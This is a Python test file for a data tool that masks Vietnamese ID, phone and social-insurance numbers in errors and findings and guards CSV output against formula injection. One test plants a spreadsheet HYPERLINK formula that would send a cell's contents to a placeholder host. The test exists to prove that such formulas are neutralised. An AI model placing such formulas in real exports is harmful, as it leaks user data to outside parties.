"""Personal data never leaks into what people read (issue 11, defects 7-11): database errors
without their row data, a file without a header line, record ids carrying an ID or a BHXH
number, values a stray quote shifted into another column, and formula-like cells in CSVs."""

from __future__ import annotations

import io

import pandas as pd
import psycopg2
import pytest
from click.testing import CliRunner

from popsync.cli import main
from popsync.core.privacy import error_text, formula_safe, mask_patterns
from popsync.failures import describe_failure
from popsync.generate import generate_dataset

ID, PHONE, BHXH = "001090123456", "0912345678", "0101234567"


@pytest.fixture(scope="module")
def tiny(tmp_path_factory):
    out = tmp_path_factory.mktemp("tiny")
    generate_dataset(out_dir=out, people=300, seed=3, formats="csv")
    return out


def invoke(*args):
    return CliRunner(env={"POPSYNC_DATABASE_URL": None}).invoke(main, [str(a) for a in args])


@pytest.mark.postgres
def test_a_database_error_is_shown_without_its_row_data(pg_url):
    """PostgreSQL quotes the failing row in DETAIL and the COPY line in CONTEXT."""
    with psycopg2.connect(pg_url) as conn, conn.cursor() as cur:
        cur.execute("CREATE TABLE t (id text, phone text, n int CHECK (n > 0))")
        with pytest.raises(psycopg2.Error) as raised:
            cur.copy_expert("COPY t FROM STDIN", io.StringIO(f"{ID}\t{PHONE}\t-1\n"))
    assert ID in str(raised.value)  # what psycopg2 would have printed
    shown = error_text(raised.value)
    code, line = describe_failure(raised.value)
    for text in (shown, line):
        assert ID not in text and PHONE not in text and "\n" not in text
        assert "violates check constraint" in text
    assert code == 5  # a statement the database refused: a bug, not the data or the server


def test_a_file_without_a_header_line_does_not_echo_its_first_row(tmp_path):
    path = tmp_path / "f0.csv"
    path.write_text(f"F0000001,Nguyễn Văn An,01/01/1990,Nam,{ID},{PHONE},Hà Nội,01/02/2022,RAT,,"
                    "Tại nhà\n", encoding="utf-8")  # fmt: skip
    result = invoke("standardize", "--source", "f0", "--input", path, "--out",
                    tmp_path / "out.parquet")  # fmt: skip
    assert result.exit_code == 2 and "no header line?" in result.output
    for value in ("Nguyễn Văn An", ID, PHONE, "Hà Nội"):
        assert value not in result.output


def _validate(tiny, tmp_path, source, frame):
    path = tmp_path / f"{source}.csv"
    frame.to_csv(path, index=False)
    out = tmp_path / "out"
    result = invoke("validate", "--source", source, "--input", path, "--population",
                    tiny / "dan_cu.csv", "--out", out, "--date", "2023-01-15")  # fmt: skip
    assert result.exit_code == 0, result.output
    return out


def test_record_ids_with_a_bhxh_number_are_masked_in_validate_findings(tiny, tmp_path):
    frame = pd.read_csv(tiny / "bhxh.csv", dtype=str, keep_default_na=False)
    frame.loc[0, "Giới tính"] = "?"  # a finding on a row whose record id is its BHXH number
    number = frame.loc[0, "Mã số BHXH"]
    out = _validate(tiny, tmp_path, "bhxh", frame)
    text = (out / "findings.csv").read_text(encoding="utf-8")
    parquet = pd.read_parquet(out / "findings.parquet")
    assert number not in text and not parquet["record_id"].str.contains(number).any()
    assert number[:3] + "****" + number[-3:] in text


def test_an_id_shifted_into_another_column_is_masked_by_its_shape(tiny, tmp_path):
    frame = pd.read_csv(tiny / "f0.csv", dtype=str, keep_default_na=False)
    frame.loc[0, "Giới tính"] = f"{ID} {PHONE}"  # a stray quote moved the ID and phone here
    frame.loc[1, "Loại xét nghiệm"] = f"+84 {PHONE[1:4]} {PHONE[4:7]} {PHONE[7:]}"
    out = _validate(tiny, tmp_path, "f0", frame)
    findings = pd.read_csv(out / "findings.csv", dtype=str, keep_default_na=False)
    observed = " ".join(findings["observed"])
    assert "001******456" in observed
    assert ID not in observed and PHONE not in observed and PHONE[1:4] + " " not in observed


def test_validate_findings_and_match_output_are_formula_safe(tiny, tmp_path):
    frame = pd.read_csv(tiny / "f0.csv", dtype=str, keep_default_na=False)
    frame.loc[0, "Mã ca bệnh"] = '=HYPERLINK("http://x.example/?"&A1,"xem")'
    frame.loc[0, "Giới tính"] = "@SUM(1+1)"
    out = _validate(tiny, tmp_path, "f0", frame)
    for line in (out / "findings.csv").read_text(encoding="utf-8").splitlines()[1:]:
        for cell in line.split(","):
            assert not cell.lstrip('"').startswith(("=", "+", "-", "@")), line
    assert "'=HYPERLINK" in (out / "findings.csv").read_text(encoding="utf-8")
    matched = tmp_path / "match.csv"
    path = tmp_path / "f0.csv"
    result = invoke("match", "--population", tiny / "dan_cu.csv", "--extract", path,
                    "--source", "f0", "--out", matched)  # fmt: skip
    assert result.exit_code == 0, result.output
    decisions = pd.read_csv(matched, dtype=str)
    assert decisions["record_id"].iloc[0].startswith("'=HYPERLINK")


def test_masking_by_value_keeps_dates_counts_and_run_ids():
    kept = "2022-12-12 05:18:16, 10,822 rows, run 3f2a1234567890ab, F0000001, 01/03/2013"
    assert mask_patterns(kept) == kept
    assert mask_patterns(f"CCCD {ID}; ĐT 091.234.5678; BHXH {BHXH}|01/03/2013") == (
        "CCCD 001******456; ĐT 091****678; BHXH 010****567|01/03/2013"
    )
    assert formula_safe("-1") == "'-1" and formula_safe(-1) == -1
